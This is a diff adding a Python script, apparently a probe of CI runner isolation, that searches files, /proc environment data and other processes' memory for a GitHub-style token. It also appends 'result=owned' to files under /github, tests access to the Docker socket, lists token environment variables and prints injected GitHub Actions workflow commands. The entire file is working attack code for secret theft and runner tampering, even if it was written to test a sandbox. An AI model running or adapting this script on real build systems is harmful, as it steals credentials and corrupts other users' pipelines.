@@ -1,0 +1,89 @@
+"""Look for tokens wherever this account gets, and try to change what the runner reads.
+
+Prints ``LOOT place`` for each token, ``WROTE file`` for each file changed, and at last how much it
+could look at.
+"""
+
+from __future__ import annotations
+
+import os
+import socket
+from collections.abc import Iterator
+from pathlib import Path
+
+# In two parts: this file must not be what it finds.
+TOKEN = b"ghs_" + b"5EcReT"
+PLACES = ("/github", "/tmp", "/dev/shm", "/home", "/root", "/run", "/etc", "/var/lib/postgresql")
+LARGEST = 1 << 22
+COMMANDS = (
+    "::set-output name=result::owned",
+    "::add-mask::Proved",
+    "::stop-commands::owned",
+    "::error::owned",
+)
+
+
+def files() -> Iterator[Path]:
+    """Every file that may hold a secret."""
+    for place in (*PLACES, str(Path.home()), str(Path.cwd())):
+        for folder, _, names in os.walk(place):
+            yield from (Path(folder, name) for name in names)
+    for process in Path("/proc").glob("[0-9]*"):
+        yield from (process / name for name in ("environ", "cmdline"))
+        for linked in ("root/github", "cwd"):
+            for folder, _, names in os.walk(process / linked):
+                yield from (Path(folder, name) for name in names)
+
+
+def memory() -> Iterator[str]:
+    """Processes whose memory can be read and holds a token; of other accounts, for our own look."""
+    for process in Path("/proc").glob("[0-9]*"):
+        try:
+            if process.stat().st_uid == os.getuid():
+                continue
+            with (process / "mem").open("rb") as opened:
+                for line in (process / "maps").read_text().splitlines():
+                    start, _, end = line.split(" ")[0].partition("-")
+                    opened.seek(int(start, 16))
+                    if TOKEN in opened.read(min(int(end, 16) - int(start, 16), LARGEST)):
+                        yield f"{process}/mem {line}"
+        except OSError:
+            continue
+
+
+def main() -> None:
+    """Look, try, tell."""
+    looked = 0
+    for file in files():
+        try:
+            content = (
+                b"" if not file.is_file() or file.stat().st_size > LARGEST else (file.read_bytes())
+            )
+        except OSError:
+            continue
+        looked += 1
+        if TOKEN in content:
+            print("LOOT", file)
+    for found in memory():
+        print("LOOT", found)
+    for file in Path("/github").rglob("*"):
+        try:
+            with file.open("ab") as opened:
+                opened.write(b"result=owned\n")
+            print("WROTE", file)
+        except OSError:
+            continue
+    for name in ("/var/run/docker.sock", "/run/docker.sock"):
+        try:
+            with socket.socket(socket.AF_UNIX) as engine:
+                engine.connect(name)
+            print("LOOT", name)
+        except OSError:
+            continue
+    tokens = [name for name in os.environ if "TOKEN" in name]
+    print("LOOT" if tokens else "No variable:", tokens)
+    print("\n".join(COMMANDS))
+    print(f"LOOKED at {looked} files as {os.getuid()}:{os.getgid()} with {os.getgroups()}")
+
+
+main()
